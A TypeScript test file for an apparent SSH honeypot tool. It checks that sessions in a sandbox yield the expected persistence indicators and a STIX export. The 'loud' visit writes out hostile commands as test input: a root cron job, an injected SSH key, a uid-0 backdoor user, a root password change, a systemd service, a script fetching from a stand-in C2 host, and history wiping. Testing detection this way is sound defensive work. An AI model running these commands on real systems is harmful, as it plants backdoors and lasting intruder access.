/** What strangers leave in a real sandbox is told, and what a real system does by itself is not. */
import assert from "node:assert/strict";
import { stat } from "node:fs/promises";
import { join } from "node:path";
import { test } from "node:test";
import { eventually, finishedSessions, mitsubako, ssh, startGateway, type Gateway } from "./harness.ts";

const KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJXU4Wq0oSYuR3BT4qRAmBrRBP7JmhEnjyhA7pEhUXJc mdrfckr";

test("a visit that leaves nothing, and one that stays", async () => {
  await using gateway = await startGateway();
  const quiet = await visit(gateway, "127.0.6.1", [
    ...[
      "uname -a; id; w; ps aux; df -h; cat /proc/cpuinfo | grep name | wc -l; ls -la /etc /var/log",
      "free -m",
    ],
    ...[
      "cat /etc/passwd; ip a; hostname; touch /tmp/x; echo hello > /tmp/y; ls /lib/systemd/system | head",
      "sudo -l",
    ],
  ]);
  assert.deepEqual(await indicators(gateway, quiet), []);

  const loud = await visit(gateway, "127.0.6.2", [
    "echo '*/5 * * * * /tmp/.x/run' > /var/spool/cron/crontabs/root",
    `mkdir -p /root/.ssh && echo '${KEY}' >> /root/.ssh/authorized_keys`,
    "useradd -o -u 0 -M sys2; echo root:Ab12cd34 | chpasswd",
    "printf '[Service]\\nExecStart=/tmp/.x/run\\n' > /etc/systemd/system/e.service",
    "printf '#!/bin/sh\\ncurl http://c2.example.com/x\\n' > /tmp/run; chmod +x /tmp/run",
    "history -c",
  ]);
  const told = await indicators(gateway, loud);
  const of = (kind: string) => told.filter((one) => one.kind === kind).map(({ value }) => value);
  assert.deepEqual(of("cron"), ["*/5 * * * * /tmp/.x/run"]);
  assert.deepEqual(of("ssh-key"), ["SHA256:aawnHCmR5mkFPW+z71XxNocx8k4lHnZsxLgbuS0FCDU"]);
  assert.deepEqual(of("user-made"), ["sys2"]);
  // From the shadow file, too, where the image was not built on this very day.
  assert.ok(of("password-changed").includes("root:Ab12cd34"));
  assert.deepEqual(of("service"), ["e.service"]);
  assert.deepEqual(of("url"), ["http://c2.example.com/x"]);
  assert.deepEqual(of("tampering"), ["history -c"]);
  assert.equal(of("hash").length, 1);
  assert.deepEqual(of("address"), []);
  for (const kind of ["cron", "ssh-key", "user-made", "service", "url"]) {
    const cites = told.find((one) => one.kind === kind)?.cites ?? [];
    assert.ok(cites.some((cite) => "entry" in cite) || kind === "url", `${kind} cites no entry`);
    assert.ok(
      cites.some((cite) => "path" in cite),
      `${kind} cites no path`,
    );
  }

  const stix = await mitsubako(gateway, "export", "--stix", loud, quiet);
  assert.equal(stix.code, 0);
  const { objects } = JSON.parse(stix.stdout.toString()) as { objects: { type: string }[] };
  assert.equal(objects.filter(({ type }) => type === "observed-data").length, 2);
  assert.ok(objects.some(({ type }) => type === "url"));
});

/** Runs commands in one shell, and gives the session's id when its sandbox was captured. */
async function visit(gateway: Gateway, from: string, lines: readonly string[]): Promise<string> {
  const known = new Set(await finishedSessions(gateway));
  await ssh(gateway, { user: "root", password: "x", from }, ["bash"], { input: `${lines.join("\n")}\n` });
  return await eventually("a session with its capture", async () => {
    const folder = (await finishedSessions(gateway)).find((one) => !known.has(one));
    if (folder === undefined) return undefined;
    const isCaptured = await stat(join(folder, "capture.json")).then(
      () => true,
      () => false,
    );
    return isCaptured ? folder.split("/").at(-1) : undefined;
  });
}

interface Told {
  readonly kind: string;
  readonly value: string;
  readonly cites: readonly object[];
}

async function indicators(gateway: Gateway, session: string): Promise<Told[]> {
  const { stdout } = await mitsubako(gateway, "indicators", "--session", session, "--json");
  return stdout
    .toString()
    .split("\n")
    .filter(Boolean)
    .map((line) => JSON.parse(line) as Told);
}
